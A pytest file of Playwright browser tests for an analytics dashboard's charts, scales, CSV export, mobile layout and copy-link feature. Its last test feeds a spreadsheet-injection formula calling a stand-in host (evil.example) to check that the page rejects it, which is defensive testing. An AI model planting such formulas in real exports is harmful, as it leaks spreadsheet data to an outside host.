"""The Analytics page in a real headless Chromium (Debian's), served by the export function."""

from __future__ import annotations

import shutil
import threading
from collections.abc import Iterator
from datetime import date, timedelta
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlencode, urlsplit

import pytest
from rbm_analytics.core.timeutil import today_utc
from rbm_analytics_dev.local.emulators import free_port
from werkzeug.serving import make_server

from tests.export_data import Warehouse, daily, parse_csv

CHROMIUM = "/usr/bin/chromium"
ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
]
START, END = date(2026, 1, 5), date(2026, 2, 15)  # six ISO weeks, Monday to Sunday
AGENTS = ("acme-agent", "bravo-agent")

pytestmark = pytest.mark.browser


@pytest.fixture
def served(export_app: Any, warehouse: Warehouse) -> Iterator[str]:
    """The export function on a free loopback port, in a thread of this process."""
    server = make_server("127.0.0.1", free_port(), export_app, threaded=True)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}"
    finally:
        server.shutdown()
        thread.join(timeout=10)


def _data() -> list[dict[str, Any]]:
    rows = []
    for i in range((END - START).days + 1):
        day = START + timedelta(days=i)
        for a, agent in enumerate(AGENTS):
            sent = 40 + (i * 7 + a * 13) % 25
            rows.append(
                daily(day, agent, sent=sent, delivered=sent - 3 - a, read=sent // 2 + (i % 5))
            )
    return rows


def _ready(page: Any) -> None:
    # A selector, not a JS predicate: the page's CSP forbids eval.
    page.locator("body[data-state='ready']").wait_for(timeout=20_000)


def test_page_changes_scale_and_metric_and_exports_the_csv(
    served: str, warehouse: Warehouse, tmp_path: Path
) -> None:
    if not Path(CHROMIUM).exists():
        pytest.skip("Debian's chromium is not installed: run 'make browser'")
    from playwright.sync_api import sync_playwright

    rows = _data()
    warehouse.load("daily_metrics", rows)
    outside: list[str] = []
    console_errors: list[str] = []
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        try:
            context = browser.new_context(viewport={"width": 1280, "height": 900},
                                          accept_downloads=True)  # fmt: skip

            def guard(route: Any) -> None:
                # Everything the page loads must come from the function itself.
                if urlsplit(route.request.url).netloc != urlsplit(served).netloc:
                    outside.append(route.request.url)
                    route.abort()
                else:
                    route.continue_()

            context.route("**/*", guard)
            page = context.new_page()
            page.on(
                "console", lambda m: console_errors.append(m.text) if m.type == "error" else None
            )
            page.goto(f"{served}/ui?start={START}&end={END}")
            _ready(page)

            # Day scale, default metrics, all agents and their total: 42 days x 3 lines.
            assert page.locator("#agent option").all_inner_texts() == ["All agents", *AGENTS]
            assert page.locator("#numbers tbody tr").count() == 42 * 3
            assert page.locator("#charts figure.chart").count() == 1  # counts only
            assert page.locator("#charts svg g.series path").count() == 3 * 3
            assert page.locator("#charts svg g.series [data-status]").count() == 3 * 3 * 42
            assert page.locator("#charts svg g.series path.partial").count() == 0
            assert page.locator("#charts svg g.provisional rect").count() == 0
            assert "Sent, Delivered, Read per day" in page.locator("#table-caption").inner_text()

            # Week scale: six weeks, each the sum of its days; the total row first.
            page.select_option("#scale", "week")
            _ready(page)
            assert page.locator("#numbers tbody tr").count() == 6 * 3
            cells = page.locator("#numbers tbody tr").nth(1).locator("th, td").all_inner_texts()
            week_sent = sum(r["sent"] for r in rows[:14] if r["agent_id"] == AGENTS[0])
            assert cells[:3] == [str(START), AGENTS[0], str(week_sent)]
            assert cells[-1] == "final"
            total = page.locator("#numbers tbody tr").first.locator("th, td").all_inner_texts()
            assert total[1:3] == ["All agents (total)", str(sum(r["sent"] for r in rows[:14]))]
            assert page.locator("#charts svg g.series [data-status]").count() == 3 * 3 * 6

            # A rate, toggled from the keyboard: a chart of its own, one line per agent.
            page.focus('input[name="metrics"][value="read_rate"]')
            page.keyboard.press("Space")
            _ready(page)
            units = page.locator("#charts figure.chart").evaluate_all(
                "figs => figs.map(f => f.dataset.unit)"
            )
            assert units == ["count", "rate"]
            assert page.locator("#charts svg g.series path").count() == 4 * 3
            assert page.locator("#numbers thead th").all_inner_texts()[-2:] == [
                "Read rate",
                "Status",
            ]
            assert page.locator('#charts svg g.series[data-metric="read_rate"]').count() == 3
            path_before = page.locator("#charts svg g.series path").first.get_attribute("d")

            # One agent, beside the total.
            page.select_option("#agent", AGENTS[0])
            _ready(page)
            assert page.locator("#numbers tbody tr").count() == 6 * 2
            assert page.locator("#charts svg g.series path").count() == 4 * 2
            # The total's line is the same as before: it always covers every agent.
            assert page.locator("#charts svg g.series path").first.get_attribute("d") == path_before
            page.screenshot(path=str(tmp_path / "analytics-desktop.png"), full_page=True)

            # The export link downloads the CSV of exactly this selection.
            with page.expect_download() as info:
                page.click("#export-link")
            download = info.value
            assert download.suggested_filename == f"rbm-analytics_{START}_{END}_week.csv"
            saved = tmp_path / download.suggested_filename
            download.save_as(saved)
            csv_rows = parse_csv(saved.read_bytes())
            assert list(csv_rows[0]) == [
                "date",
                "agent_id",
                "sent",
                "delivered",
                "read",
                "read_rate",
                "status",
            ]
            assert [r["agent_id"] for r in csv_rows] == ["*", AGENTS[0]] * 6
            assert csv_rows[1]["sent"] == str(week_sent)
            table = page.locator("#numbers tbody tr").all_inner_texts()
            assert [t.split("\t")[-2] for t in table] == [r["read_rate"] for r in csv_rows]

            # A phone-sized screen: no horizontal scrolling of the page itself.
            phone = browser.new_context(viewport={"width": 390, "height": 844},
                                        device_scale_factor=2, is_mobile=True)  # fmt: skip
            mobile = phone.new_page()
            mobile.goto(f"{served}/ui?start={START}&end={END}&scale=week")
            _ready(mobile)
            assert mobile.evaluate("document.documentElement.scrollWidth") <= 390
            mobile.screenshot(path=str(tmp_path / "analytics-phone.png"), full_page=True)
        finally:
            browser.close()
    for shot in ("analytics-desktop.png", "analytics-phone.png"):
        assert (tmp_path / shot).stat().st_size > 10_000
        shutil.copy(tmp_path / shot, Path("/tmp") / f"rbm-export-{shot}")
    assert outside == []
    assert console_errors == []


def _at(day: date, hour: int) -> str:
    return f"{day.isoformat()}T{hour:02d}:00:00.000000Z"


def _recent() -> list[dict[str, Any]]:
    """The 30 days ending today (UTC): today computed by an intraday run, the
    last W = 8 days before it still inside their window, the rest final."""
    today = today_utc()
    rows = []
    for back in range(30):
        day = today - timedelta(days=back)
        refreshed = (
            _at(today, 0)  # today: still running
            if back == 0
            else _at(today, 0)  # inside the window: recomputed each morning
            if back <= 7
            else _at(day + timedelta(days=8), 6)  # its last recompute, after the cutoff
        )
        for a, agent in enumerate(AGENTS):
            sent = 50 + a * 20 + back % 7
            row = daily(day, agent, sent=sent, delivered=sent - 2, read=sent // 2,
                        agent_responses=2, agent_response_avg_s=3600.0 * (a + 1),
                        agent_response_p90_s=90_000.0 + a)  # fmt: skip
            row["refreshed_at"] = refreshed
            rows.append(row)
    return rows


def test_today_dashed_window_shaded_units_compare_and_copy_link(
    served: str, warehouse: Warehouse
) -> None:
    if not Path(CHROMIUM).exists():
        pytest.skip("Debian's chromium is not installed: run 'make browser'")
    from playwright.sync_api import sync_playwright

    rows = _recent()
    warehouse.load("daily_metrics", rows)
    today = today_utc()
    console_errors: list[str] = []
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        try:
            context = browser.new_context(viewport={"width": 1280, "height": 900})
            context.grant_permissions(["clipboard-read", "clipboard-write"], origin=served)
            page = context.new_page()
            page.on(
                "console", lambda m: console_errors.append(m.text) if m.type == "error" else None
            )
            # No parameters: the last 30 days, up to and including today.
            page.goto(f"{served}/ui")
            _ready(page)
            assert page.locator("#range").input_value() == "30"
            assert page.locator("#end").input_value() == today.isoformat()
            lines = 3 * (len(AGENTS) + 1)  # sent, delivered, read x (agents + total)

            # Today is dashed ("so far"), with a hollow marker; the days before are solid.
            dashed = page.locator("#charts svg g.series path.partial")
            assert dashed.count() == lines
            assert {dashed.nth(i).get_attribute("stroke-dasharray") for i in range(lines)} == {
                "6 5"
            }
            assert page.locator("#charts svg g.series path.closed").count() == lines
            today_marks = page.locator('#charts svg g.series [data-status="partial"]')
            assert today_marks.count() == lines
            assert today_marks.first.get_attribute("fill") == "#ffffff"
            assert page.locator("#charts svg text.so-far").text_content() == "so far"
            # The 7 closed days inside the window are shaded, nothing else.
            shaded = page.locator("#charts svg g.provisional rect")
            assert sorted(shaded.nth(i).get_attribute("data-date") or "" for i in range(7)) == [
                (today - timedelta(days=back)).isoformat() for back in range(7, 0, -1)
            ]
            assert shaded.count() == 7
            statuses = [
                t.split("\t")[-1] for t in page.locator("#numbers tbody tr").all_inner_texts()
            ]
            assert statuses[-3:] == ["so far"] * 3
            assert statuses.count("provisional") == 7 * 3

            # The total line: every agent's sent summed, per day.
            total_today = sum(r["sent"] for r in rows if r["date"] == today.isoformat())
            tip = page.locator(
                '#charts g.series[data-metric="sent"][data-agent="*"] [data-status="partial"] title'
            )
            assert tip.text_content() == (
                f"Sent, All agents (total), {today}: {total_today} (so far)"
            )

            # Durations get their own chart in human units: 90,000 s is 25 h.
            page.check('input[name="metrics"][value="agent_response_p90_s"]')
            page.check('input[name="metrics"][value="agent_response_avg_s"]')
            _ready(page)
            assert page.locator("#charts figure.chart").count() == 2
            assert page.locator("#charts figure[data-unit='duration'] h3").inner_text() == (
                "Durations (h)"
            )
            axis = page.locator(
                "#charts figure[data-unit='duration'] g.grid text"
            ).all_text_contents()
            assert "25 h" in axis or "30 h" in axis
            header = page.locator("#numbers thead th").all_inner_texts()
            last = page.locator("#numbers tbody tr").last.locator("th, td").all_inner_texts()
            assert last[header.index("Agent response, 90th percentile")] == "25 h"
            assert last[header.index("Agent response, mean")] == "2 h"  # bravo: 7,200 s

            # Compare two agents, beside the total.
            page.select_option("#agent", AGENTS[0])
            page.select_option("#compare", AGENTS[1])
            _ready(page)
            agents = page.locator('#charts g.series[data-metric="sent"]').evaluate_all(
                "gs => gs.map(g => g.dataset.agent)"
            )
            assert agents == ["*", *AGENTS]
            assert page.locator("#numbers tbody tr").count() == 30 * 3
            assert "compared with bravo-agent" in page.locator("#chart-caption").inner_text()

            # Copy link: the clipboard holds a URL that reopens exactly this view.
            page.click("#copy-link")
            page.locator("#status", has_text="Link copied").wait_for(timeout=5_000)
            link = page.evaluate("navigator.clipboard.readText()")
            assert link == page.url
            query = parse_qs(urlsplit(link).query)
            assert query["agent"] == [AGENTS[0]] and query["compare"] == [AGENTS[1]]
            assert query["range"] == ["30"]
            again = context.new_page()
            again.goto(link)
            _ready(again)
            assert again.locator("#agent").input_value() == AGENTS[0]
            assert again.locator("#compare").input_value() == AGENTS[1]
            assert again.locator("#numbers thead th").all_inner_texts() == header
            assert again.locator("#charts figure.chart").count() == 2
            page.screenshot(
                path=str(Path("/tmp") / "rbm-export-analytics-today.png"), full_page=True
            )
        finally:
            browser.close()
    assert console_errors == []


def test_an_agent_in_the_address_reaches_the_export_link_only_if_the_export_lists_it(
    served: str, warehouse: Warehouse
) -> None:
    if not Path(CHROMIUM).exists():
        pytest.skip("Debian's chromium is not installed: run 'make browser'")
    from playwright.sync_api import sync_playwright

    warehouse.load("daily_metrics", _data())
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        try:
            page = browser.new_page()
            for wanted, selected in ((formula, ""), ("ghost-agent", ""), (AGENTS[1], AGENTS[1])):
                query = urlencode({"start": START, "end": END, "agent": wanted, "compare": wanted})
                page.goto(f"{served}/ui?{query}")
                _ready(page)
                assert page.locator("#agent").input_value() == selected
                link = parse_qs(urlsplit(page.locator("#export-link").get_attribute("href")).query)
                assert link.get("agent", [""]) == [selected]
                assert parse_qs(urlsplit(page.url).query).get("agent", [""]) == [selected]
                assert formula not in page.content()
        finally:
            browser.close()
